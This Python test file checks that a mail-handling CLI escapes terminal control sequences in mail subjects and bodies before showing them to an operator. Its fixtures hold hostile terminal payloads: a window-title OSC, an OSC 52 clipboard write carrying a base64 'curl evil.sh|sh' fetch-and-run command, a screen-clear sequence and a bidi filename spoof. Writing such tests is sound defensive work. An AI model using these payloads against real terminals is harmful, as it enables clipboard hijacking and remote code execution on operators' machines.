"""Control sequences in mail never reach the operator's terminal raw (issue 11 item 18): the
human output of case show, cases list, mail list and quarantine list shows them escaped, and
the JSON output carries them as JSON escapes only."""

from __future__ import annotations

import base64
import json
from email.header import Header

from typer.testing import CliRunner

from models import RawMessage
from models.db import session_scope
from tests.actors import actor
from workers.app import App
from workers.intake.quarantine import quarantine_row
from workers.intake.raw_store import store_raw
from workers.ops.cli import app as cli
from workers.ops.terminal import printable

TITLE = "\x1b]0;pwned\x07"  # OSC 0: set the window title
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.sh|sh").decode() + "\x07"  # OSC 52
CSI_C1 = "\x9b2J"  # C1 CSI: clear the screen
BIDI = "\u202eexe.pdf"  # right-to-left override
HOSTILE = TITLE + CLIPBOARD + CSI_C1 + BIDI + "\x1b[31m\r"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
runner = CliRunner()


def hostile_mail(n: int) -> bytes:
    subject = Header(f"快递丢件投诉 {n} {HOSTILE}", "utf-8").encode()
    return (
        f"From: =?utf-8?b?546L5bu65Zu9?= <wangjianguo{n}@qq.com>\r\n"
        "To: complaints@example.org\r\n"
        f"Subject: {subject}\r\n"
        f"Message-ID: <hostile-{n}@qq.com>\r\n"
        "Date: Tue, 03 Mar 2026 10:00:00 +0800\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
        f"我的快递三天没到，客服不理人。{HOSTILE}\r\n"
        "请尽快处理。\r\n"
    ).encode()


def output(*args: str) -> str:
    result = runner.invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_no_control_sequence_reaches_the_terminal(app: App, drain) -> None:
    with session_scope(app.db_url) as session:
        ids = [store_raw(session, hostile_mail(n), "INBOX").id for n in (1, 2)]  # type: ignore[union-attr]
    actor("ingest_message").send(ids[0])
    drain()
    with session_scope(app.db_url) as session:
        quarantine_row(session, session.get(RawMessage, ids[1]), f"test: {HOSTILE}")
    number = json.loads(output("cases", "list", "--json"))[0]["number"]

    for args in (
        ("case", "show", number),
        ("cases", "list"),
        ("mail", "list"),
        ("quarantine", "list"),
    ):
        shown = output(*args)
        assert not any(c in shown for c in RAW_CONTROLS), (args, shown)
        if args[0] in ("case", "quarantine"):  # the body; the reason: shown, escaped
            assert "\\x1b]0;pwned\\x07" in shown, (args, shown)

    detail = output("case", "show", number, "--json")
    assert not any(c in detail for c in RAW_CONTROLS)
    assert TITLE + CLIPBOARD + CSI_C1 in json.loads(detail)["messages"][0]["text"]  # kept
    for args in (("mail", "list", "--json"), ("quarantine", "list", "--json")):
        assert not any(c in output(*args) for c in RAW_CONTROLS)


def test_printable_keeps_layout_only_where_asked() -> None:
    assert printable("a\tb\nc") == "a\\x09b\\x0ac"
    assert printable("a\tb\nc", keep="\t\n") == "a\tb\nc"
    assert printable("王\x85芳\u2028") == "王\\x85芳\\u2028"
